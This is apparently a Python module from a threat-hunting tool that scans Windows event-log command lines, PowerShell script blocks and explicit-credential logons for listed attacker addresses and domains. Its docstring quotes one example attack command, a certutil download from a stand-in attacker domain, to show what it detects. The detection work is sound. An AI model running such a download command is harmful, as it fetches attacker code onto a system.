"""Listed attacker addresses and domains in the command lines, script blocks and logons of events.

The same values the web logs are searched for (`exhunt.analyzers.web_indicators`): a command
line that downloads from a listed domain (`certutil -urlcache -f http://cdn.evil.example/a`), a
script block naming a listed address, an explicit-credential logon (4648) from one. Only events
the detectors read in full anyway are searched (process starts, PowerShell script blocks, 4648),
so the search costs no extra decoding; logons (4624, 4625) and network connections (Sysmon 3) are
many and not searched.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import lru_cache

from exhunt.analyzers.web_indicators import Match, NetworkIndicators
from exhunt.artefacts.prefilter import Pattern, Prefilter
from exhunt.events.detect.common import report
from exhunt.events.record import EventRecord
from exhunt.filehunt.indicators import host_names
from exhunt.hits import Reporter
from exhunt.rules import rules_of

DETECTOR = "event-indicator"

# (source family, event id) -> the fields holding free text, and those holding one address
TEXT_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
    ("sysmon", 1): ("CommandLine", "ParentCommandLine"),
    ("security", 4688): ("CommandLine",),
    ("powershell", 4104): ("ScriptBlockText",),
}
ADDRESS_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
    ("security", 4648): ("IpAddress",),
}
# keyed as `family` and the event id come (either may be None: no entry then)
_FIELDS: dict[tuple[str | None, int | None], tuple[tuple[str, ...], tuple[str, ...]]] = {
    key: (TEXT_FIELDS.get(key, ()), ADDRESS_FIELDS.get(key, ())) for key in TEXT_FIELDS.keys() | ADDRESS_FIELDS.keys()
}
_IPV4 = re.compile(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
_MAX_TEXT = 1 << 20  # a script block is at most a few hundred KB; longer text is searched in its first MiB


def matcher(
    values: NetworkIndicators, family: Callable[[EventRecord], str | None]
) -> Callable[[EventRecord, Reporter], None] | None:
    """The search of one event, or None when the lists hold no address or domain."""
    rule_ids = [r.id for r in rules_of(DETECTOR)]
    if not rule_ids or not (values.addresses or values.networks or values.domains):
        return None
    # Most command lines and script blocks name no listed value: one multi-literal pass over the
    # text tells, before any name or address in it is read (a script block may be megabytes).
    literals = candidates(values)

    def search(record: EventRecord, result: Reporter) -> None:
        fields = _FIELDS.get((family(record), record.event_id))
        if fields is None:
            return  # the common case: an event of another kind
        found: list[tuple[str, Match]] = []
        for name in fields[1]:
            value = record.get(name).strip()
            found += [(name, m) for m in values.match_address(name, value)] if value else []
        for name in fields[0]:
            text = record.get(name)[:_MAX_TEXT]
            if text and literals.scan(text.encode("utf-8", "surrogatepass")):
                found += [(name, m) for m in _in_text(values, name, text)]
        for name, match in found:
            ind = match.indicator
            facts = {
                "indicator": ind.value,
                "seen_in": f"{name}: {match.value}",
                "indicator_type": ind.type,
                "indicator_label": ind.label,
                "indicator_source": ind.source,
                "listed_in": f"{ind.origin}:{ind.line}",
                "text": record.get(name),
            }
            for rule_id in rule_ids:
                report(result, rule_id, record, facts)

    return search


@lru_cache(maxsize=8)
def candidates(values: NetworkIndicators) -> Prefilter:
    """The literals of the lists' addresses and domains, compiled once per process and lists."""
    return Prefilter(Pattern.literal("listed", t) for t in sorted(values.text_literals))


def _in_text(values: NetworkIndicators, field: str, text: str) -> list[Match]:
    out: list[Match] = []
    if values.addresses or values.networks:
        for m in _IPV4.finditer(text):
            out += values.match_address(field, m.group(0))
    if values.domains:
        for name in host_names(text.lower()):
            out += values.match_domain(field, name)
    return out
